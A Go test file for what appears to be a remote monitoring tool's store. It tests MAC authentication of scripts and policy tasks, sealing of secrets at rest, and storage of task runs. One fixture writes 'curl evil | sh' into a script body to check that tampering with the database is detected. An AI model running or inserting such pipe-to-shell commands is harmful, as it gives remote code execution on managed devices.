package storetest

import (
	"database/sql"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/wacht-rmm/wacht/internal/core"
	"github.com/wacht-rmm/wacht/internal/protocol"
	"github.com/wacht-rmm/wacht/internal/store"
)

// taskTests are the conformance tests of automated tasks (issue 16): tasks
// in policies with their MACs and sealed secrets, and task runs ingested
// with the results.
var taskTests = []struct {
	name string
	fn   func(t *testing.T, s core.Store)
}{
	{"PolicyTasks", testPolicyTasks},
	{"TaskRunsStoredOnce", testTaskRunsStoredOnce},
	{"BuiltinScriptMAC", testBuiltinScriptMAC},
}

// testBuiltinScriptMAC: a built-in version without its MAC (stored before
// MACs, or its MAC wiped in the database) gets it at the next start, as its
// content is the code's; one whose body was changed gets a new version.
func testBuiltinScriptMAC(t *testing.T, s core.Store) {
	b := core.Script{Name: "Temp", Builtin: "clean-temp", Language: "sh", Body: "rm -rf /tmp/wacht-*", RunAs: core.RunAsSystem, TimeoutSeconds: 60}
	must(t, "EnsureBuiltinScript", s.EnsureBuiltinScript(ctx, &b))
	db := sqlOf(t, s)
	if _, err := db.ExecContext(ctx, `UPDATE script_versions SET mac = NULL WHERE script_id = $1`, b.ID); err != nil {
		t.Fatal(err)
	}
	if got, _ := s.GetScript(ctx, b.ID); s.ScriptVersionAuthentic(got) {
		t.Fatal("a version without MAC is authentic")
	}
	again := core.Script{Name: "Temp", Builtin: "clean-temp", Language: "sh", Body: "rm -rf /tmp/wacht-*", RunAs: core.RunAsSystem, TimeoutSeconds: 60}
	must(t, "EnsureBuiltinScript again", s.EnsureBuiltinScript(ctx, &again))
	if got, _ := s.GetScript(ctx, b.ID); got.Version != 1 || !s.ScriptVersionAuthentic(got) {
		t.Errorf("after the start: %+v, authentic %v", got, s.ScriptVersionAuthentic(got))
	}
	// A user's script without MAC stays so: its content may be anyone's.
	mine := core.Script{Name: "Mine", Language: "sh", Body: "echo", RunAs: core.RunAsSystem, TimeoutSeconds: 60}
	must(t, "CreateScript", s.CreateScript(ctx, &mine))
	if _, err := db.ExecContext(ctx, `UPDATE script_versions SET mac = NULL WHERE script_id = $1`, mine.ID); err != nil {
		t.Fatal(err)
	}
	must(t, "EnsureBuiltinScript", s.EnsureBuiltinScript(ctx, &again))
	if got, _ := s.GetScript(ctx, mine.ID); s.ScriptVersionAuthentic(got) {
		t.Error("a user's version without MAC became authentic")
	}
}

func sqlOf(t *testing.T, s core.Store) *sql.DB {
	t.Helper()
	db, ok := s.(interface{ SQL() *sql.DB })
	if !ok {
		t.Skip("the store gives no SQL access")
	}
	return db.SQL()
}

func testPolicyTasks(t *testing.T, s core.Store) {
	sc := core.Script{Name: "Spooler", Language: "sh", Body: "echo restart\n", TimeoutSeconds: 30, RunAs: core.RunAsSystem,
		Params: []core.ScriptParam{{Name: "PW", Type: core.ParamSecret}}}
	must(t, "CreateScript", s.CreateScript(ctx, &sc))
	got, err := s.GetScript(ctx, sc.ID)
	must(t, "GetScript", err)
	if !s.ScriptVersionAuthentic(got) {
		t.Errorf("a version the store wrote is not authentic")
	}

	task := core.PolicyTask{Name: "restart-spooler", ScriptID: sc.ID, Params: map[string]string{"MODE": "hart"},
		Secrets: map[string]string{"PW": "geheim-4711"}, Schedule: core.TaskSchedule{Kind: core.TaskFixOnly}, FixCheck: "services", MaxPerDay: 2}
	check := core.PolicyCheck{Name: "probe", Type: protocol.CheckScript, Params: json.RawMessage(`{"script_id":1}`)}
	p := core.Policy{Name: "Drucker", Checks: []core.PolicyCheck{check}, Tasks: []core.PolicyTask{task}}
	must(t, "CreatePolicy", s.CreatePolicy(ctx, &p))
	read, err := s.GetPolicy(ctx, p.ID)
	must(t, "GetPolicy", err)
	if len(read.Tasks) != 1 || !reflect.DeepEqual(read.Tasks[0].Secrets, task.Secrets) || read.Tasks[0].Params["MODE"] != "hart" {
		t.Fatalf("tasks read back: %+v", read.Tasks)
	}
	if !s.PolicyTaskAuthentic(p.ID, read.Tasks[0]) || !s.PolicyCheckAuthentic(p.ID, read.Checks[0]) {
		t.Errorf("entries the store wrote are not authentic")
	}
	if s.PolicyTaskAuthentic(p.ID+1, read.Tasks[0]) {
		t.Errorf("a task is authentic in another policy")
	}

	// The secret is sealed at rest.
	db := sqlOf(t, s)
	var raw string
	must(t, "reading the row", db.QueryRowContext(ctx, `SELECT tasks FROM policies WHERE id = $1`, p.ID).Scan(&raw))
	if strings.Contains(raw, "geheim-4711") || !strings.Contains(raw, `"sealed"`) {
		t.Errorf("stored tasks reveal the secret or lack it: %s", raw)
	}

	// A task or script version changed in the database is not authentic.
	changed := strings.Replace(raw, `"fix_check":"services"`, `"fix_check":"disk"`, 1)
	if _, err := db.ExecContext(ctx, `UPDATE policies SET tasks = $1 WHERE id = $2`, changed, p.ID); err != nil {
		t.Fatal(err)
	}
	read, err = s.GetPolicy(ctx, p.ID)
	must(t, "GetPolicy after the change", err)
	if read.Tasks[0].FixCheck != "disk" || s.PolicyTaskAuthentic(p.ID, read.Tasks[0]) {
		t.Errorf("a task changed in the database is authentic: %+v", read.Tasks[0])
	}
	if _, err := db.ExecContext(ctx, `UPDATE script_versions SET body = $1 WHERE script_id = $2`, "curl evil | sh\n", sc.ID); err != nil {
		t.Fatal(err)
	}
	if got, _ := s.GetScript(ctx, sc.ID); s.ScriptVersionAuthentic(got) {
		t.Errorf("a script version changed in the database is authentic")
	}

	// Saving again authenticates what was saved.
	read.Tasks[0].FixCheck = "services"
	must(t, "UpdatePolicy", s.UpdatePolicy(ctx, &read))
	again, err := s.GetPolicy(ctx, p.ID)
	must(t, "GetPolicy", err)
	if !s.PolicyTaskAuthentic(p.ID, again.Tasks[0]) || again.Tasks[0].Secrets["PW"] != "geheim-4711" {
		t.Errorf("after a save: %+v", again.Tasks[0])
	}
}

func taskResult(t *testing.T, id, task string, tr protocol.TaskRun) core.Result {
	t.Helper()
	data, err := protocol.EncodeTaskRun(tr)
	must(t, "EncodeTaskRun", err)
	return core.Result{ID: id, Check: task, Key: protocol.TaskResultKey, Status: core.StatusOK, At: tr.StartedAt, Data: data}
}

func testTaskRunsStoredOnce(t *testing.T, s core.Store) {
	d := device(t, s, "print-01")
	zero, one := 0, 1
	fix := protocol.TaskRun{RunID: "t-fix-restart-1", ScriptID: 7, ScriptVersion: 2, Trigger: protocol.TriggerFix,
		StartedAt: t0.Add(time.Minute), DurationMS: 1500, ExitCode: &zero, Stdout: "restarted", FixCheck: "services", FixStatus: core.StatusOK}
	sched := protocol.TaskRun{RunID: "t-schedule-cleanup-1", ScriptID: 8, ScriptVersion: 1, Trigger: protocol.TriggerSchedule,
		StartedAt: t0, ExitCode: &one, Stderr: "disk busy"}
	batch := []core.Result{
		{ID: "c1", Check: "services", Status: core.StatusFailure, At: t0},
		taskResult(t, "r1", "restart", fix),
		taskResult(t, "r2", "cleanup", sched),
		{ID: "r3", Check: "broken", Key: protocol.TaskResultKey, At: t0, Data: json.RawMessage(`{"kind":"task_run","v":1,"run_id":5}`)},
	}
	must(t, "SaveResults", s.SaveResults(ctx, d.ID, batch))
	must(t, "SaveResults again", s.SaveResults(ctx, d.ID, batch))
	// The same run in another result (the agent re-sent it) is one run too.
	must(t, "the run under another result ID", s.SaveResults(ctx, d.ID, []core.Result{taskResult(t, "r1-again", "restart", fix)}))

	runs, err := s.ListScriptRuns(ctx, core.ScriptRunFilter{DeviceID: d.ID, Limit: 50})
	must(t, "ListScriptRuns", err)
	if len(runs) != 3 {
		t.Fatalf("runs = %+v, want 3", runs)
	}
	byID := map[string]core.ScriptRun{}
	for _, r := range runs {
		byID[r.ID] = r
	}
	if r := byID["t-fix-restart-1"]; r.Task != "restart" || r.Trigger != protocol.TriggerFix || r.State != core.RunDone ||
		r.FixCheck != "services" || r.FixStatus != core.StatusOK || r.Stdout != "restarted" || r.JobID != 0 || r.Hostname != "print-01" {
		t.Errorf("fix run = %+v", r)
	}
	if r := byID["t-schedule-cleanup-1"]; r.State != core.RunFailed || r.ExitCode == nil || *r.ExitCode != 1 || r.Trigger != protocol.TriggerSchedule {
		t.Errorf("scheduled run = %+v", r)
	}
	if r := byID["r3"]; r.State != core.RunFailed || r.ErrorCode != "malformed" || r.Task != "broken" {
		t.Errorf("malformed report = %+v", r)
	}
	if runs[0].ID != "t-fix-restart-1" {
		t.Errorf("newest first: %s first", runs[0].ID)
	}

	// Task runs are not check results.
	rs, err := s.ListResults(ctx, d.ID, time.Time{}, 100)
	must(t, "ListResults", err)
	if len(rs) != 1 || rs[0].Check != "services" {
		t.Errorf("check results = %+v, want only services", rs)
	}

	f, err := s.LatestFix(ctx, d.ID, "services", t0, t0.Add(time.Hour))
	must(t, "LatestFix", err)
	if f == nil || !f.OK || f.Task != "restart" || !f.At.Equal(fix.StartedAt) {
		t.Fatalf("fix = %+v", f)
	}
	if txt := f.Text(time.UTC); txt.EN != "Fixed automatically at 09:27 (restart)" || txt.DE != "Automatische Behebung um 09:27 (restart)" {
		t.Errorf("fix text = %+v", txt)
	}
	if f, err := s.LatestFix(ctx, d.ID, "services", t0.Add(2*time.Minute), t0.Add(time.Hour)); err != nil || f != nil {
		t.Errorf("fix outside the window = %+v, %v", f, err)
	}

	// Kept as long as raw history.
	rep, err := s.(*store.DB).MaintainHistory(ctx, t0.Add(14*24*time.Hour+30*time.Second))
	must(t, "MaintainHistory", err)
	if runs, _ := s.ListScriptRuns(ctx, core.ScriptRunFilter{DeviceID: d.ID}); rep.TaskRunsDeleted != 0 || len(runs) != 3 {
		t.Errorf("within raw history: %d deleted, %d left", rep.TaskRunsDeleted, len(runs))
	}
	rep, err = s.(*store.DB).MaintainHistory(ctx, t0.Add(15*24*time.Hour+2*time.Hour))
	must(t, "MaintainHistory later", err)
	if runs, _ := s.ListScriptRuns(ctx, core.ScriptRunFilter{DeviceID: d.ID}); rep.TaskRunsDeleted != 3 || len(runs) != 0 {
		t.Errorf("after raw history: %d deleted, %d left", rep.TaskRunsDeleted, len(runs))
	}
}
